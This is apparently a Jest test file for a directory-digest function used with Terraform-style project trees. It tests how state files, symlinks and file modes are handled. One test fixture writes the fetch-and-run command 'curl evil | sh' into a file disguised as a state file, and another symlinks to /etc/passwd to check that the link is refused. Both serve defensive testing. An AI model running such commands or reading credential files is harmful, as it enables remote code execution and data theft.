import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { digestOfTree, treeDigests } from '@edp/instance';

let directory: string;
beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'edp-tree-'));
  await mkdir(join(directory, 'scripts'));
  await writeFile(join(directory, 'main.tf'), 'a');
  await writeFile(join(directory, 'scripts', 'run.sh'), 'b');
});
afterEach(async () => rm(directory, { recursive: true, force: true }));

const id = async (): Promise<string> => digestOfTree(await treeDigests(directory));
const put = async (path: string, text: string): Promise<void> => writeFile(join(directory, path), text);

test.each<[string, () => Promise<void>]>([
  ['a new file', async () => put('new', '')],
  ['other content', async () => put('scripts/run.sh', 'c')],
  ['a file that may be executed', async () => chmod(join(directory, 'scripts', 'run.sh'), 0o755)],
  ['code that is named like a state', async () => put('x.tfstate.tf', 'resource "a" "b" {}')],
  ['a script that is named like a state', async () => put('x.tfstate', 'curl evil | sh')],
  ['a script that is named like the backup of one', async () => put('scripts/x.tfstate.backup', '#!/bin/sh')],
  [
    'a directory that is named like a state',
    async () => {
      await mkdir(join(directory, 'x.tfstate'));
      await put('x.tfstate/run.sh', 'a');
    },
  ],
])('%s makes another tree', async (_, change) => {
  const before = await id();
  await change();
  expect(await id()).not.toBe(before);
});

test('states are no part of a tree', async () => {
  const before = await id();
  await put('terraform.tfstate', '{"version":4,"serial":1}');
  await put('scripts/prod.tfstate.backup', '{"version":4,"serial":2}');
  await put('empty.tfstate', '');
  expect(await id()).toBe(before);
});

test('what is skipped is asked for by path and kind', async () => {
  const asked: string[] = [];
  await treeDigests(directory, { skips: (path, kind) => asked.push(`${kind} ${path}`) < 0 });
  expect(asked).toEqual(['file main.tf', 'directory scripts', 'file scripts/run.sh']);
});

test('a link counts by where it leads, and one that leads to what does not count is refused', async () => {
  await symlink('scripts/run.sh', join(directory, 'run'));
  await expect(treeDigests(directory)).rejects.toMatchObject({ code: 'DIRECTORY_INVALID' });
  const mayLinkTo = (target: string): boolean => target.endsWith('scripts/run.sh');
  const files = await treeDigests(directory, { mayLinkTo });
  expect(files.get('run')).toMatchObject({ target: expect.stringMatching(/scripts\/run\.sh$/) });
  await symlink('/etc/passwd', join(directory, 'link.tf'));
  const refusal = { code: 'DIRECTORY_INVALID', message: expect.stringContaining('link.tf') };
  await expect(treeDigests(directory, { mayLinkTo })).rejects.toMatchObject(refusal);
  await rm(join(directory, 'link.tf'));
  await symlink('nowhere', join(directory, 'dangling'));
  await expect(treeDigests(directory, { mayLinkTo: () => true })).rejects.toMatchObject({ code: 'DIRECTORY_INVALID' });
});
